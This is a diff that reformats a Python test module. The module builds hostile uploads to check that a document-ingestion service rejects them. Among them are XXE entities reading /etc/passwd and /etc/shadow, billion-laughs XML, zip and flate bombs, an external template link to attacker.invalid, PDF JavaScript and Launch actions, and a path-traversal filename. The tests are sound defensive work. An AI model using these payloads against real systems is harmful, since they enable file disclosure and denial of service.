@@ -15,10 +15,18 @@ from dataclasses import dataclass
 from pathlib import Path
 
 from tests.conftest import SAMPLE_REPORT, make_docx
-from tests.reliability.pdf_forge import (pdf_encrypted, pdf_flate_bomb, pdf_javascript, pdf_loop,
-                                         pdf_malformed, pdf_no_text, pdf_pages,
-                                         pdf_self_referencing_content, pdf_wrong_xref,
-                                         pdf_zip_polyglot)
+from tests.reliability.pdf_forge import (
+    pdf_encrypted,
+    pdf_flate_bomb,
+    pdf_javascript,
+    pdf_loop,
+    pdf_malformed,
+    pdf_no_text,
+    pdf_pages,
+    pdf_self_referencing_content,
+    pdf_wrong_xref,
+    pdf_zip_polyglot,
+)
 
 REGISTERED = "registered"
 
@@ -32,6 +40,7 @@ class Hostile:
 
 
 # ---- .docx ----
+
 
 def _report_docx(work: Path, number: str = "88/BC-PNV") -> bytes:
     lines = [line.replace("45/BC-PNV", number) for line in SAMPLE_REPORT]
@@ -59,31 +68,43 @@ def _docx_billion_laughs(work: Path) -> bytes:
     for i in range(1, 10):
         prev = b"&lol%d;" % (i - 1) if i > 1 else b"&lol;"
         ents.append(b'<!ENTITY lol%d "%s">' % (i, prev * 10))
-    xml = (b'<?xml version="1.0"?>\n<!DOCTYPE w:document [' + b"".join(ents) + b"]>\n"
-           b"<w:document " + W_NS + b"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>")
+    xml = (
+        b'<?xml version="1.0"?>\n<!DOCTYPE w:document [' + b"".join(ents) + b"]>\n"
+        b"<w:document " + W_NS + b"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
+    )
     return _with_document_xml(work, xml)
 
 
 def _docx_xxe(work: Path) -> bytes:
-    xml = (b'<?xml version="1.0"?>\n<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
-           b"<w:document " + W_NS + b"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>")
+    xml = (
+        b'<?xml version="1.0"?>\n<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
+        b"<w:document " + W_NS + b"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
+    )
     return _with_document_xml(work, xml)
 
 
 def _docx_utf16_doctype(work: Path) -> bytes:
-    xml = ('<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE w:document [<!ENTITY x SYSTEM '
-           '"file:///etc/shadow">]>\n<w:document xmlns:w="http://schemas.openxmlformats.org/'
-           'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body>'
-           "</w:document>").encode("utf-16")
+    xml = (
+        '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE w:document [<!ENTITY x SYSTEM '
+        '"file:///etc/shadow">]>\n<w:document xmlns:w="http://schemas.openxmlformats.org/'
+        'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body>'
+        "</w:document>"
+    ).encode("utf-16")
     return _with_document_xml(work, xml)
 
 
 def _docx_deep_nesting(work: Path) -> bytes:
     # Stored, not deflated: the zip ratio check must not be what stops it; the XML parser must.
     depth = 200_000
-    xml = (b"<w:document " + W_NS + b"><w:body>" + b"<w:sdt><w:sdtContent>" * depth
-           + b"<w:p><w:r><w:t>deep</w:t></w:r></w:p>" + b"</w:sdtContent></w:sdt>" * depth
-           + b"</w:body></w:document>")
+    xml = (
+        b"<w:document "
+        + W_NS
+        + b"><w:body>"
+        + b"<w:sdt><w:sdtContent>" * depth
+        + b"<w:p><w:r><w:t>deep</w:t></w:r></w:p>"
+        + b"</w:sdtContent></w:sdt>" * depth
+        + b"</w:body></w:document>"
+    )
     base = zipfile.ZipFile(io.BytesIO(_report_docx(work)))
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
@@ -152,10 +173,14 @@ def _docx_external_refs(work: Path) -> bytes:
         for info in docx.infolist():
             data = docx.read(info.filename)
             if info.filename == "word/_rels/document.xml.rels":
-                data = data.replace(b"</Relationships>", (
-                    b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
-                    b'2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
-                    b'TargetMode="External"/></Relationships>'))
+                data = data.replace(
+                    b"</Relationships>",
+                    (
+                        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
+                        b'2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
+                        b'TargetMode="External"/></Relationships>'
+                    ),
+                )
             zf.writestr(info.filename, data)
     return out.getvalue()
 
@@ -178,6 +203,7 @@ def _zip_many_members(_: Path) -> bytes:
 
 # ---- images ----
 
+
 def _png_chunk(kind: bytes, data: bytes, crc: int | None = None) -> bytes:
     crc = zlib.crc32(kind + data) if crc is None else crc
     return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc & 0xFFFFFFFF)
@@ -186,14 +212,23 @@ def _png_chunk(kind: bytes, data: bytes, crc: int | None = None) -> bytes:
 def _png_header_only_giant(_: Path) -> bytes:
     ihdr = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 0, 0, 0, 0)
     idat = zlib.compress(b"\x00" * 1000)
-    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + _png_chunk(b"IHDR", ihdr)
+        + _png_chunk(b"IDAT", idat)
+        + _png_chunk(b"IEND", b"")
+    )
 
 
 def _png_bad_crc(_: Path) -> bytes:
     ihdr = struct.pack(">IIBBBBB", 64, 64, 8, 0, 0, 0, 0)
     idat = zlib.compress(b"\x00" * (65 * 64))
-    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr, crc=0xDEADBEEF)
-            + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b""))
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + _png_chunk(b"IHDR", ihdr, crc=0xDEADBEEF)
+        + _png_chunk(b"IDAT", idat)
+        + _png_chunk(b"IEND", b"")
+    )
 
 
 def _png_decompression_bomb(_: Path) -> bytes:
@@ -209,15 +244,24 @@ def _tiff_many_frames(_: Path) -> bytes:
     frames, side = 3_000, 8
     strip = b"\xff" * side * side
     out = bytearray(b"II*\x00" + struct.pack("<I", 8 + len(strip)) + strip)
-    tags = [(256, 3, side), (257, 3, side), (258, 3, 8), (259, 3, 1), (262, 3, 1),
-            (273, 4, 8), (278, 3, side), (279, 4, len(strip))]
+    tags = [
+        (256, 3, side),
+        (257, 3, side),
+        (258, 3, 8),
+        (259, 3, 1),
+        (262, 3, 1),
+        (273, 4, 8),
+        (278, 3, side),
+        (279, 4, len(strip)),
+    ]
     for i in range(frames):
         start = len(out)
         nxt = 0 if i == frames - 1 else start + 2 + 12 * len(tags) + 4
         out += struct.pack("<H", len(tags))
         for tag, kind, value in tags:
-            out += struct.pack("<HHI", tag, kind, 1) + (struct.pack("<HH", value, 0) if kind == 3
-                                                        else struct.pack("<I", value))
+            out += struct.pack("<HHI", tag, kind, 1) + (
+                struct.pack("<HH", value, 0) if kind == 3 else struct.pack("<I", value)
+            )
         out += struct.pack("<I", nxt)
     return bytes(out)
 
@@ -231,6 +275,7 @@ def _jpeg_truncated(_: Path) -> bytes:
 
 
 # ---- text and the rest ----
+
 
 def _txt_unknown_encoding(_: Path) -> bytes:
     # High bytes only, in no Vietnamese encoding's pattern: no reading scores as words.
@@ -269,19 +314,38 @@ def _utf16_bom_only(_: Path) -> bytes:
 
 HOSTILE: list[Hostile] = [
     Hostile("rong.docx", lambda w: b"", ("empty_file",), "an empty file"),
-    Hostile("toan-so-khong.pdf", lambda w: b"\x00" * (1 << 20), ("wrong_extension", "unsupported_format"),
-            "a NUL-filled file"),
+    Hostile(
+        "toan-so-khong.pdf",
+        lambda w: b"\x00" * (1 << 20),
+        ("wrong_extension", "unsupported_format"),
+        "a NUL-filled file",
+    ),
     Hostile("bang-tinh.docx", _xlsx_as_docx, ("wrong_extension",), "a spreadsheet named .docx"),
-    Hostile("cai-dat.docx", lambda w: b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode"
-            + bytes(range(256)) * 40, ("wrong_extension",), "an .exe named .docx"),
-    Hostile("khong-phai-ole.doc", lambda w: bytes(range(256)) * 64, ("wrong_extension",),
-            "a .doc that is not OLE"),
-    Hostile("ole-hong.doc", _ole_garbage, ("converter_failed", "corrupt_docx", "no_text", "timeout"),
-            "OLE magic then garbage"),
+    Hostile(
+        "cai-dat.docx",
+        lambda w: (
+            b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode" + bytes(range(256)) * 40
+        ),
+        ("wrong_extension",),
+        "an .exe named .docx",
+    ),
+    Hostile(
+        "khong-phai-ole.doc", lambda w: bytes(range(256)) * 64, ("wrong_extension",), "a .doc that is not OLE"
+    ),
+    Hostile(
+        "ole-hong.doc",
+        _ole_garbage,
+        ("converter_failed", "corrupt_docx", "no_text", "timeout"),
+        "OLE magic then garbage",
+    ),
     Hostile("cat-do.docx", _docx_truncated, ("corrupt_docx",), "a truncated .docx"),
     Hostile("bom-zip.docx", _docx_zip_bomb, ("zip_bomb",), "a zip bomb .docx (300 MB member)"),
-    Hostile("bom-zip-noi-doi.docx", _docx_lying_header, ("zip_bomb", "corrupt_docx"),
-            "a member larger than its header says"),
+    Hostile(
+        "bom-zip-noi-doi.docx",
+        _docx_lying_header,
+        ("zip_bomb", "corrupt_docx"),
+        "a member larger than its header says",
+    ),
     Hostile("nhieu-thanh-vien.docx", _zip_many_members, ("wrong_extension",), "20,000 zip members"),
     Hostile("ty-tieng-cuoi.docx", _docx_billion_laughs, ("xml_attack",), "billion laughs"),
     Hostile("thuc-the-ngoai.docx", _docx_xxe, ("xml_attack",), "an external entity"),
@@ -292,11 +356,19 @@ HOSTILE: list[Hostile] = [
     Hostile("mat-khau.pdf", pdf_encrypted, ("encrypted_pdf",), "an encrypted PDF"),
     Hostile("hong.pdf", pdf_malformed, ("corrupt_pdf",), "a malformed PDF"),
     Hostile("vong-lap.pdf", pdf_loop, ("corrupt_pdf",), "a page tree that loops"),
-    Hostile("tu-ve.pdf", pdf_self_referencing_content, (REGISTERED, "corrupt_pdf", "no_text"),
-            "a form XObject that draws itself"),
+    Hostile(
+        "tu-ve.pdf",
+        pdf_self_referencing_content,
+        (REGISTERED, "corrupt_pdf", "no_text"),
+        "a form XObject that draws itself",
+    ),
     Hostile("hai-nghin-trang.pdf", lambda w: pdf_pages(2_000), ("too_many_pages",), "2,000 pages"),
-    Hostile("bom-flate.pdf", pdf_flate_bomb, ("corrupt_pdf", "no_text", "too_large"),
-            "a content stream inflating to 400 MB"),
+    Hostile(
+        "bom-flate.pdf",
+        pdf_flate_bomb,
+        ("corrupt_pdf", "no_text", "too_large"),
+        "a content stream inflating to 400 MB",
+    ),
     Hostile("trang-trang.pdf", pdf_no_text, ("no_text",), "a PDF with no text at all"),
     Hostile("xref-sai.pdf", pdf_wrong_xref, (REGISTERED, "corrupt_pdf"), "every xref offset wrong"),
     Hostile("javascript.pdf", pdf_javascript, (REGISTERED,), "OpenAction JavaScript and a Launch action"),
@@ -307,13 +379,27 @@ HOSTILE: list[Hostile] = [
     Hostile("nhieu-khung.tif", _tiff_many_frames, ("too_many_pages",), "a TIFF with 3,000 frames"),
     Hostile("cut.jpg", _jpeg_truncated, ("unsupported_format", "ocr_failed"), "a truncated JPEG"),
     Hostile("bang-ma-la.txt", _txt_unknown_encoding, ("unknown_encoding",), "a .txt in no known encoding"),
-    Hostile("nhi-phan.txt", _txt_control_soup, ("unsupported_format", "wrong_extension"), "binary named .txt"),
+    Hostile(
+        "nhi-phan.txt", _txt_control_soup, ("unsupported_format", "wrong_extension"), "binary named .txt"
+    ),
     Hostile("chi-bom.txt", _utf16_bom_only, ("no_text",), "a BOM and white space"),
     Hostile("mot-dong.txt", _txt_one_line, (REGISTERED,), "9 MB on one line"),
-    Hostile("rtf-long-sau.rtf", _rtf_nested, (REGISTERED, "converter_failed", "no_text", "timeout"),
-            "100,000 nested RTF groups"),
-    Hostile("qua-lon.txt", lambda w: b"van ban " * (21 * 2**20 // 8), ("too_large",),
-            "21 MB when the limit is 20 MB (the tests' config)"),
-    Hostile("bao-cao\\..\\..\\Windows\\win.docx", lambda w: _report_docx(w, "93/BC-PNV"), (REGISTERED,),
-            "a name that climbs out with ..\\"),
+    Hostile(
+        "rtf-long-sau.rtf",
+        _rtf_nested,
+        (REGISTERED, "converter_failed", "no_text", "timeout"),
+        "100,000 nested RTF groups",
+    ),
+    Hostile(
+        "qua-lon.txt",
+        lambda w: b"van ban " * (21 * 2**20 // 8),
+        ("too_large",),
+        "21 MB when the limit is 20 MB (the tests' config)",
+    ),
+    Hostile(
+        "bao-cao\\..\\..\\Windows\\win.docx",
+        lambda w: _report_docx(w, "93/BC-PNV"),
+        (REGISTERED,),
+        "a name that climbs out with ..\\",
+    ),
 ]
